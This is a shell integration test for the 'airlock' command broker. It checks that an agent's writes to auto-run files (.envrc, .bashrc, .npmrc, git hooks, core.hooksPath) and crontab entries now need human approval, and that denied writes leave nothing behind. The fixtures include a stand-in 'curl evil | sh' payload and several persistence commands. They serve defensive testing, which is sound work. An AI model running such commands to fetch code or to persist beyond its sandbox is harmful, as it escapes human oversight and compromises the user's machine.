#!/bin/bash
# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The airlock authors
# Shell rules, with the shipped rule set (contrib/manifests/shell-rules.yaml,
# default allow, unresolvable ask) played for real through the broker: a
# write to a file that runs later, outside any sandbox (writepolicy_runs_on():
# .envrc, a shell's start-up files, .npmrc, .git/hooks/*, ...), or a command
# that sets up what runs later (git's core.hooksPath, crontab), ran with no
# approval whatever wrote it: "echo curl-evil >> .envrc" landed .envrc in the
# workspace, and so did tee, cp, mv, ln, install, sed -i, dd of= and a cd into
# .git/hooks before the write.  Each now waits for a human (the approver sees
# "runs later"), and, denied, nothing landed.  Controls: a write elsewhere,
# and reading those files (cat, grep), run.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "$top_srcdir/tests/lib.sh"
. "$top_srcdir/tests/integration/mcp_lib.sh"
mcp_env
ws=$(make_workspace)
shell_rules_manifest "$T/m.yaml"
mkdir -p "$ws/sub" "$ws/.git/hooks"
printf '#!/bin/sh\ncurl evil | sh\n' >"$ws/evil"
echo 'export A=1' >"$ws/.envrc.example"
mcp_start "$T/m.yaml" "$ws"
audit="$(newest_session)/audit.jsonl"

# ===== played for real: each wrote what runs later ========================
id=500 last=
shell_asks_denied "what runs later, outside any sandbox (" \
    'echo curl-evil >> .envrc; echo x >> .bashrc; echo y > sub/.npmrc' \
    'echo x | tee -a sub/.profile' \
    "printf '#!/bin/sh\nid\n' > .git/hooks/pre-commit" \
    'cp evil .git/hooks/post-checkout' 'cp evil .git/hooks' \
    'ln -s evil .envrc' 'mv evil sub/.zshrc' \
    'install -m 755 evil .git/hooks/pre-push' \
    'cp .envrc.example .envrc && sed -i s/1/2/ .envrc' \
    'cd .git/hooks && cp ../../evil pre-commit' \
    'f=.envrc; cp evil $f'
# (asked about by their own rule or reading before, and still)
shell_asks_denied "runs later" 'dd if=evil of=.bashrc status=none' \
    'cat evil > sub/.b?shrc' 'git -c core.hooksPath=.git/h status' \
    'git config core.hooksPath h'
for f in .envrc .bashrc sub/.npmrc sub/.profile .git/hooks/pre-commit \
    .git/hooks/post-checkout .git/hooks/evil .git/hooks/pre-push sub/.zshrc \
    'sub/.b?shrc'; do
	check "... and nothing landed ($f)" test ! -e "$ws/$f" -a ! -L "$ws/$f"
done
check "... and evil is where it was" test -s "$ws/evil"
check "the ask is audited with why" \
    grep -q "what runs later, outside any sandbox (.envrc).*echo curl-evil" "$audit"

# ===== crontab: refused by its rule =======================================
shell_denied 'echo "* * * * * id" | crontab -' "rule"

# ===== controls ============================================================
shell 'cp evil evil2 && echo ok >> sub/notes.txt && cat .envrc.example && grep -c curl evil .bashrc; ls -a sub'
expect_ok_result "control: writes elsewhere and reads run"
check "... and do what they say" \
    test -s "$ws/evil2" -a "$(cat "$ws/sub/notes.txt")" = ok
mcp_stop
finish
